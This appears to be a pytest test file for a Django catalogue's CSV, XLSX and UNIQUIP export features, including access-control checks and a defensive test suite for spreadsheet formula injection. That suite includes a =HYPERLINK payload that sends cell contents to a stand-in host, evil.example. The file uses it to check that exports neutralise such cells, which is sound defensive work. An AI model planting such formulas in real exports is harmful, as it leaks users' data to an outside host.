import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook  # type: ignore[import-untyped]
from pytest_django.asserts import assertContains

from catalogue import search
from catalogue.models import Infrastructure
from tests.factories import (
    make_equipment,
    make_infrastructure,
    make_organisation,
    make_service,
)

from .conftest import make_importer
from .files import parse_csv

pytestmark = pytest.mark.django_db


@pytest.fixture
def catalogue_listings(db):
    bologna = make_infrastructure(
        name="Bologna Photonics Lab", region="ITH55", kets=["PHOT", "AI"]
    )
    make_equipment(
        infrastructure=bologna, name="Femtosecond laser", uniquip_id="BO-LAS-1"
    )
    eindhoven = make_infrastructure(name="Eindhoven Test Bed", region="NL414")
    make_infrastructure(name="Draft Lab", region="ITH55", status="draft")
    search.refresh()
    return bologna, eindhoven


def export(client, file_format: str, **params):
    return client.get(reverse("imports:search_export", args=[file_format]), params)


def test_search_export_csv_holds_the_published_results_in_order(
    client, catalogue_listings
):
    response = export(client, "csv", sort="name")

    assert (
        response["Content-Disposition"] == 'attachment; filename="infrastructures.csv"'
    )
    rows = parse_csv(response.content)
    assert [row["name"] for row in rows] == [
        "Bologna Photonics Lab",
        "Eindhoven Test Bed",
    ]
    assert rows[0]["region"] == "ITH55"
    assert set(rows[0]["kets"].split("; ")) == {"Photonics", "Artificial intelligence"}
    assert rows[0]["status"] == "Published"


def test_search_export_follows_the_filters(client, catalogue_listings):
    rows = parse_csv(export(client, "csv", country="NL").content)

    assert [row["name"] for row in rows] == ["Eindhoven Test Bed"]


def test_search_export_xlsx_reads_back(client, catalogue_listings):
    response = export(client, "xlsx", q="photonics")

    sheet = load_workbook(io.BytesIO(response.content)).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert header[:3] == ("slug", "name", "acronym")
    assert [row[1] for row in rows] == ["Bologna Photonics Lab"]


def test_search_export_uniquip_lists_facilities_and_equipment(
    client, catalogue_listings
):
    bologna, _eindhoven = catalogue_listings

    rows = parse_csv(export(client, "uniquip", country="IT").content)

    assert [(row["Type"], row["Name"], row["ID"]) for row in rows] == [
        ("facility", "Bologna Photonics Lab", bologna.slug),
        ("equipment", "Femtosecond laser", "BO-LAS-1"),
    ]
    assert rows[1]["Related Facility ID"] == bologna.slug
    assert rows[1]["Contact Email"] == bologna.contact_email


def test_search_export_runs_as_many_queries_for_one_listing_as_for_many(
    client, django_assert_num_queries
):
    make_infrastructure(name="Only Lab", kets=["PHOT"])
    search.refresh()
    with django_assert_num_queries(8):
        export(client, "csv")

    for n in range(30):
        make_infrastructure(name=f"Lab {n}", kets=["PHOT", "AI"])
    search.refresh()
    with django_assert_num_queries(8):
        response = export(client, "csv")
    assert len(parse_csv(response.content)) == 31


def test_too_large_a_search_is_refused_with_a_reason(
    client, catalogue_listings, monkeypatch
):
    monkeypatch.setattr("imports.views.SEARCH_EXPORT_LIMIT", 1)

    response = export(client, "csv")

    assert response.status_code == 400
    assertContains(response, "a download holds at most 1", status_code=400)


def test_unknown_export_format_is_not_found(client, catalogue_listings):
    assert export(client, "pdf").status_code == 404


def test_search_page_links_to_the_exports_of_the_same_search(
    client, catalogue_listings
):
    response = client.get(
        reverse("catalogue:infrastructure_list"), {"q": "lab", "page": "1"}
    )

    url = reverse("imports:search_export", args=["uniquip"])
    assertContains(response, f'href="{url}?q=lab"')
    assertContains(response, "UNIQUIP CSV")


def test_empty_search_offers_no_download(client, catalogue_listings):
    response = client.get(reverse("catalogue:infrastructure_list"), {"q": "zzyzxqv"})

    assert "Download these results" not in response.content.decode()


def admin_export(client, model: str, ids: list[int], *, file_format="0", resource="0"):
    return client.post(
        reverse(f"admin:catalogue_{model}_export"),
        {"format": file_format, "resource": resource, "export_items": ids},
    )


def test_admin_selection_exports_as_csv(client, catalogue_listings):
    bologna, eindhoven = catalogue_listings
    client.force_login(make_importer(region="ITH5", also=("NL41",)))

    response = admin_export(client, "infrastructure", [bologna.pk, eindhoven.pk])

    assert sorted(row["name"] for row in parse_csv(response.content)) == [
        "Bologna Photonics Lab",
        "Eindhoven Test Bed",
    ]


def test_admin_equipment_selection_exports_as_uniquip_xlsx(client, catalogue_listings):
    bologna, _eindhoven = catalogue_listings
    client.force_login(make_importer(region="ITH5"))
    laser = bologna.equipment.get()

    response = admin_export(
        client, "equipment", [laser.pk], file_format="1", resource="1"
    )

    sheet = load_workbook(io.BytesIO(response.content)).active
    header, row = list(sheet.iter_rows(values_only=True))
    assert dict(zip(header, row, strict=True))["ID"] == "BO-LAS-1"


def test_partner_admin_cannot_export_another_regions_listings(
    client, catalogue_listings
):
    bologna, eindhoven = catalogue_listings
    client.force_login(make_importer(region="ITH5"))

    refused = admin_export(client, "infrastructure", [bologna.pk, eindhoven.pk])
    whole_list = client.post(
        reverse("admin:catalogue_infrastructure_export"),
        {"format": "0", "resource": "0"},
    )

    assert "Content-Disposition" not in refused
    assertContains(refused, "Select a valid choice.")
    assert "Eindhoven" not in whole_list.content.decode("utf-8-sig")
    assert "Bologna Photonics Lab" in whole_list.content.decode("utf-8-sig")


def test_export_action_offers_the_selected_listings(client, catalogue_listings):
    bologna, _eindhoven = catalogue_listings
    client.force_login(make_importer(region="ITH5"))

    response = client.post(
        reverse("admin:catalogue_infrastructure_changelist"),
        {"action": "export_admin_action", "_selected_action": [bologna.pk]},
    )

    assertContains(response, "Export 1 selected item.")
    assertContains(response, "UNIQUIP facilities and equipment")


# --- Formula injection: no text cell of an export starts a formula ---------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'


def formula_text(start: str, n: int) -> str:
    return HYPERLINK if start == "=" else f"{start}1+{n}"


@pytest.fixture
def poisoned_listing(db) -> Infrastructure:
    """A published listing whose every free-text value starts with one of the
    characters that make a spreadsheet cell a formula, at negative coordinates."""
    texts = iter(formula_text(start, n) for n in range(20) for start in FORMULA_STARTS)
    name, host = next(texts), make_organisation(name=next(texts), country="IT")
    listing_texts: dict[str, Any] = {field: next(texts) for field in LISTING_TEXTS}
    listing = make_infrastructure(
        name=name,
        slug="-evil-lab",
        region="ITH55",
        host=host,
        latitude=Decimal("-33.9"),
        longitude=Decimal("-18.4"),
        **listing_texts,
    )
    make_service(infrastructure=listing, name=next(texts), description=next(texts))
    make_equipment(
        infrastructure=listing,
        uniquip_id="-EVIL-1",
        **{name: next(texts) for name in EQUIPMENT_TEXTS},
    )
    search.refresh()
    return listing


LISTING_TEXTS = [
    "acronym",
    "summary",
    "description",
    "address",
    "city",
    "access_policy",
    "sme_offer",
    "contact_name",
    "contact_phone",
]
EQUIPMENT_TEXTS = [
    "name",
    "description",
    "technique",
    "manufacturer",
    "model",
    "organisational_unit",
    "site_location",
    "building",
    "service_level",
]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def cells(content: bytes, file_format: str) -> list[list[object]]:
    if file_format == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).active
        return [list(row) for row in sheet.iter_rows(values_only=True)]
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return [list(row) for row in csv.reader(text)]


def assert_no_formulas(rows: list[list[object]]) -> None:
    """No text cell starts a formula; the neutralised ones keep their text after
    the quote; numbers (the coordinates) stay numbers."""
    header, *body = rows
    assert body
    formulas = [
        cell
        for row in rows
        for cell in row
        if isinstance(cell, str)
        and cell.startswith(FORMULA_STARTS)
        and not is_number(cell)
    ]
    assert formulas == []
    texts = [cell for row in body for cell in row if isinstance(cell, str)]
    assert any(cell.startswith("'") for cell in texts)
    for column in ("latitude", "longitude"):
        if column in header:
            # A number in an XLSX; in a CSV, a number's text, which Excel reads
            # as one (a quote in front would make it text).
            value = body[0][header.index(column)]
            assert Decimal(str(value)) in (Decimal("-33.9"), Decimal("-18.4"))


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "uniquip"])
def test_search_exports_start_no_formula(client, poisoned_listing, file_format):
    response = export(client, file_format)

    rows = cells(response.content, "xlsx" if file_format == "xlsx" else "csv")
    assert_no_formulas(rows)
    # The name, second column of both layouts, keeps its text after the quote.
    assert rows[1][1] == f"'{HYPERLINK}"


@pytest.mark.parametrize(
    ("model", "resource"),
    [("infrastructure", "0"), ("infrastructure", "1"), ("service", "0")]
    + [("equipment", "0"), ("equipment", "1")],
)
@pytest.mark.parametrize("file_format", ["0", "1"])
def test_admin_exports_start_no_formula(
    client, poisoned_listing, model, resource, file_format
):
    client.force_login(make_importer(region="ITH5"))
    ids = {
        "infrastructure": [poisoned_listing.pk],
        "service": list(poisoned_listing.services.values_list("pk", flat=True)),
        "equipment": list(poisoned_listing.equipment.values_list("pk", flat=True)),
    }[model]

    response = admin_export(
        client, model, ids, file_format=file_format, resource=resource
    )

    assert response.status_code == 200
    assert_no_formulas(cells(response.content, "xlsx" if file_format == "1" else "csv"))
